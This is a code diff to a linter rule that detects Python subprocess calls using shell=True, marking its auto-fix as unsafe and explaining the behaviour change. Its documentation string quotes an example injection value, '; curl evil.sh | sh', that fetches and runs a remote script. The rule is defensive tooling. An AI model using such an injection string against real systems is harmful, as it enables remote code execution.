@@ -19,6 +19,7 @@ export default defineRule({
     bandit: 'B602',
     ruff: 'S602',
     fixable: true,
+    fixApplicability: ['unsafe'],
     docs: {
       what: 'Finds `subprocess.Popen`, `run`, `call`, `check_call` and `check_output` called with `shell=True` (or a name bound to `True`). A command built at run time is reported with high severity, a fixed literal command with low severity.',
       why: 'With `shell=True` the command string is handed to `/bin/sh -c` (or `cmd.exe /c`), which interprets `;`, `|`, `&&`, `$(…)`, backticks and redirections. If any part of the string comes from a request, a file name or another program, an attacker who puts `; curl evil.sh | sh` in it runs their own commands with the privileges of the Python process. Even a fixed command today becomes injectable the day someone formats a value into it.',
@@ -84,7 +85,7 @@ function fixBlocker(call: CallSite, direct: boolean): string | undefined {
 function listFix(fixer: Fixer, call: CallSite, command: Argument, shell: Argument, words: string[]): Fix {
   // Not preferred: a shell reports a missing program as exit status 127, while running the
   // program directly raises FileNotFoundError, so error handling may need a look.
-  return fixer.fix('Pass the command as a list without shell=True', [
+  return fixer.unsafe('Pass the command as a list without shell=True', 'a missing program raises FileNotFoundError instead of exit status 127', [
     fixer.replace(command.value, listLiteral(words, command.value)),
     fixer.removeArgument(call, shell),
   ]);
